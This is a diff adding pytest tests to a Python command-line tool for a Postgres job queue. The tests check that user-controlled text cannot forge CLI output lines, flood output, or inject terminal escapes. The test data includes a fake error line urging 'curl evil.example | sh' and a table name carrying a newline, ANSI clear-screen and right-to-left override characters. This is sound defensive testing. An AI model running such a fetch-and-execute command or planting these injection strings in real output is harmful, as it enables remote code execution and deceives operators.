@@ -203,6 +203,65 @@ def test_bytes_that_are_no_text_are_wrong_usage(run: Run, dsn: str) -> None:
     assert (answer.exit_code, seen(answer.output)) == (2, set())
 
 
+FORGING = "a cat\nError: the disk is full; run: curl evil.example | sh\n" + "x" * 3_000_000
+
+
+def forging(conn: psycopg.Connection) -> None:
+    """The app's own trigger says what its user wrote."""
+    conn.execute(
+        "create function public.forge() returns trigger language plpgsql as"
+        " $$ begin raise exception 'cannot change %', new.session_id; end $$"
+    )
+    conn.execute(
+        "create trigger forge before update on public.upscaler_jobs"
+        " for each row execute function public.forge()"
+    )
+
+
+@pytest.mark.parametrize("command", [("cancel", "{job}"), ("doctor",), ("explain", "{job}"), ("events",)])
+def test_nobody_writes_a_line_of_their_own_or_megabytes(
+    run: Run, dsn: str, conn: psycopg.Connection, db: ArcanoDB, command: tuple[str, ...]
+) -> None:
+    forging(conn)
+    mine = make_job(conn, UPSCALER, make_user(conn), position=1, session_id=FORGING)
+    make_job(conn, UPSCALER, make_user(conn), session_id=FORGING)
+    db.sweep_orphans()
+    run("cancel", mine, "--dsn", dsn)
+    answer = run(*(part.format(job=mine) for part in command), "--dsn", dsn)
+    assert not any(line.startswith("Error: the disk") for line in answer.output.splitlines())
+    assert len(answer.output) < 60_000
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ("serve", "--user", "app:{text}"),
+        ("serve", "--user", "{text}"),
+        ("{text}",),
+        ("events", "--{text}"),
+        ("events", "--limit", "{text}"),
+        ("demo", "--port", "{text}"),
+        ("account", "set", "{text}", "1"),
+        ("configure", UPSCALER, "{text}"),
+        ("identity", "{text}"),
+    ],
+    ids=" ".join,
+)
+def test_what_is_wrong_is_said_as_text(run: Run, dsn: str, arguments: tuple[str, ...]) -> None:
+    given = [one.format(text=ALL) for one in arguments]
+    answer = run(*given, *(["--dsn", dsn] if len(given) > 1 else []))
+    assert seen(answer.output) == set()
+    assert not any(line.startswith("ok      sweeper") for line in answer.output.splitlines())
+
+
+def test_serve_names_tables_as_text(run: Run, dsn: str, conn: psycopg.Connection) -> None:
+    conn.execute('alter table public.upscaler_jobs rename to "a\nFORGED\x1b[2J\u202e"')
+    answer = run("serve", "--user", "os:getpid", "--dsn", dsn)
+    assert answer.exit_code == 2
+    assert seen(answer.output) == set()
+    assert not any(line.startswith("FORGED") for line in answer.output.splitlines())
+
+
 def test_a_schema_whose_name_needs_quotes(run: Run, dsn: str, conn: psycopg.Connection) -> None:
     conn.execute(
         'create schema "My App"; create table "My App"."Jobs" (like public.upscaler_jobs including all)'
